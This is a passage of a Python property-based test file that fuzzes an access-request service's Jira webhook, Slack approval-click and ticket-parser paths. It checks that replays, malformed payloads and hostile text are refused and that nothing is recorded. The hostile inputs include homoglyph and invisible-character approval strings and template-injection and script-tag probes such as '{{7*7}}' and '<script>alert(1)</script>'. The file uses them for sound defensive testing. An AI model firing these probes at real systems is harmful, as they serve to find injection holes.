        hook = jira_hook(timestamp=data.draw(bad.filter(lambda v: not isinstance(v, bool))))
    elif where == "issue":
        hook = jira_hook()
        hook["issue"] = data.draw(not_a(dict).filter(lambda v: v is not None))
    else:
        hook = jira_hook()
        hook["issue"]["fields"]["issuetype"] = data.draw(not_a(dict))
    r = untouched.jira(hook)
    if r.status_code == 200:  # not an Access Request event: ignored, said so
        assert r.json()["ignored"] and where in ("issuetype",)
        return
    out = assert_clear_refusal(r, status=422)
    name = {"issuetype": "issue.fields.issuetype"}.get(where, where)
    assert named(out, name) or named(out, "body"), (where, out)


@settings(FAST, max_examples=60)
@given(key=st.from_regex(r"[A-Z][A-Z0-9_]{0,9}-[1-9][0-9]{0,5}", fullmatch=True))
def test_a_jira_delivery_starts_once_whatever_its_unsigned_headers(front: Front, key: str) -> None:
    """Jira's delivery id header is not signed: a replay under a fresh one is a duplicate."""
    rec = front.launchers["jira"]
    hook = jira_hook(key, timestamp=int(time.time() * 1000) + len(rec.launched))
    before = len(rec.launched)
    r = front.jira(hook, **{"X-Atlassian-Webhook-Identifier": str(uuid.uuid4())})
    if r.status_code == 200:  # this key was drawn before: its run goes on (one per ticket)
        assert r.json()["status"] == "running" and len(rec.launched) == before, r.text
        return
    assert r.status_code == 202, r.text
    assert rec.launched[-1] == {"ticket": key, "requester": f"jira:{key}#1"}
    replay = front.jira(hook, **{"X-Atlassian-Webhook-Identifier": str(uuid.uuid4())})
    assert replay.status_code == 200 and replay.json()["duplicate"] is True
    assert len(rec.launched) == before + 1


# --- Slack clicks ----------------------------------------------------------------------------


def slack_click(
    value: str, *, user: str = SLACK_USER, action: str = "approve", **extra: Any
) -> bytes:
    payload = {
        "type": "block_actions",
        **from_slack(),
        "user": {"id": user},
        "trigger_id": uuid.uuid4().hex,
        "actions": [{"action_id": action, "value": value}],
        "container": {"channel_id": "D1", "message_ts": "1.2"},
        **extra,
    }
    return urlencode({"payload": json.dumps(payload)}).encode()


def approve_value() -> str:
    return f"{APPROVAL}:{PLAN_HASH}"


hostile_text = st.one_of(
    st.sampled_from(INJECTIONS),
    st.sampled_from(INVISIBLE).map(lambda c: f"{APPROVAL}{c}:{PLAN_HASH}"),
    st.text(max_size=3000),
    st.just(f"{APPROVAL}:{PLAN_HASH}".replace("a", "\u0430")),
    st.just(f"{APPROVAL}:" + "c" * 5000),
)


@FAST
@given(
    where=st.sampled_from(["value", "user", "action", "container", "payload"]),
    data=st.data(),
)
def test_signed_hostile_clicks_record_nothing(front: Front, where: str, data: Any) -> None:
    if where == "value":
        body = slack_click(data.draw(hostile_text))
    elif where == "user":
        body = slack_click(approve_value(), user=data.draw(hostile_text))
    elif where == "action":
        body = slack_click(approve_value(), action=data.draw(hostile_text))
    elif where == "container":
        body = slack_click(approve_value(), container=data.draw(junk), user="U0NOBODY")
    else:
        raw = data.draw(st.binary(max_size=2000) | junk.map(lambda v: json.dumps(v).encode()))
        body = b"payload=" + raw if data.draw(st.booleans()) else raw
    r = front.slack(body)
    assert r.status_code in (200, 400, 401, 403), r.text[:300]
    if r.status_code == 401:  # the same raw body drawn twice: Slack never sends that
        assert r.json()["error"] == "replayed request"
    if r.status_code != 200:
        assert_clear_refusal(r)
    else:
        assert r.json().get("recorded") in (None, False), r.text
    assert get_approval(front.svc.ledger, APPROVAL).decisions == []


# --- 3. the access-request ticket parser (what the Jira path does with ticket text) ---------

VALID_TICKET = ["email: new.hire@example.com", "projects: Production=viewer"]
ONE_LINE_INJECTIONS = st.sampled_from([s for s in INJECTIONS if "\n" not in s])
TODAY = date(2025, 3, 3)


@st.composite
def hostile_line(draw: st.DrawFn) -> str:
    kind = draw(st.sampled_from(["checked", "invisible", "long", "not key-value", "unknown"]))
    if kind == "checked":  # values that are checked: an injection is never valid there
        key = draw(st.sampled_from(["org_role", "modules", "until", "org role", "Modules"]))
        return f"{key}: {draw(ONE_LINE_INJECTIONS)}"
    if kind == "invisible":
        key = draw(st.sampled_from([k for k in KEYS if k not in ("email", "projects")]))
        # Tabs are whitespace a ticket may hold; a line break would make two lines.
        bad = draw(st.sampled_from([c for c in INVISIBLE if c not in ("\t", "\r\n")]))
        return f"{key}: {inner_insert('Q2 churn analysis', bad, 5)}"
    if kind == "long":
        return f"justification: {'x' * draw(st.integers(2001, 20_000))}"
    if kind == "not key-value":
        return draw(st.sampled_from(["please hurry", "{{7*7}}", "<script>alert(1)</script>"]))
    key = draw(st.sampled_from(["manager", "admin", "sql", "cmd"]))
    return f"{key}: {draw(ONE_LINE_INJECTIONS)}"


@FAST
@given(line=hostile_line(), at=st.integers(0, 2))
def test_a_hostile_ticket_line_is_a_problem_of_its_own_line(line: str, at: int) -> None:
    lines = [*VALID_TICKET]
    lines.insert(at, line)
    with pytest.raises(AccessRequestError) as exc:
        parse_access_request("\n".join(lines), today=TODAY)
    assert {e.line_no for e in exc.value.errors} == {at + 1}, str(exc.value)
    text = str(exc.value)  # what is posted on the ticket
    assert not [c for c in text if unicodedata.category(c).startswith("C") and c != "\n"]
    problem = text.splitlines()[1]
    assert problem.startswith(f"- line {at + 1} (")
    assert len(problem) < SHOWN + 400


@FAST
@given(email=look_alike("new.hire@example.com"))
def test_a_look_alike_email_on_a_ticket_is_kept_as_written(email: str) -> None:
    """Accepted as written, like at the HR door: the onboarding plan warns when an account
    looks like it (domain.onboard), and the invitation goes to exactly this address."""
    req = parse_access_request(f"email: {email}\nprojects: Production=viewer", today=TODAY)
    assert req.email == email.lower()


@FAST
@given(email=bad_email("new.hire@example.com"))
def test_a_bad_email_on_a_ticket_is_a_problem_of_line_one(email: str) -> None:
    description = f"email: {email}\nprojects: Production=viewer"
    with pytest.raises(AccessRequestError) as exc:
        parse_access_request(description, today=TODAY)
    lines = {e.line_no for e in exc.value.errors}
    # A line break inside the address makes a line of its own ("Bcc: …"): that one is named.
    assert (1 in lines) or ("\n" in email and 2 in lines), str(exc.value)
    assert not [c for c in str(exc.value) if unicodedata.category(c).startswith("C") and c != "\n"]


@FAST
@given(text=st.sampled_from(INJECTIONS).filter(lambda s: not set(s) & set("\r\n\x1b\x00")))
def test_free_text_is_kept_as_text(text: str) -> None:
    """A justification is text: quoted back, never interpreted, so it may say anything
    visible."""
    req = parse_access_request("\n".join([*VALID_TICKET, f"justification: {text}"]), today=TODAY)
    assert req.justification == text.strip()


def test_hmac_helpers_agree_with_the_doors() -> None:
    """The signing helpers these tests use are the doors' own scheme (a guard against a test
    that only ever tests itself)."""
    body = b'{"x": 1}'
    mac = hmac.new(HR_SECRET.encode(), f"{T}.".encode() + body, hashlib.sha256).hexdigest()
    assert sign_hr(HR_SECRET, body, T)["X-Handover-Signature"] == f"t={T},v1={mac}"
    slack = hmac.new(SLACK_SECRET.encode(), f"v0:{T}:".encode() + body, hashlib.sha256)
    assert sign_slack(SLACK_SECRET, body, T)["X-Slack-Signature"] == f"v0={slack.hexdigest()}"
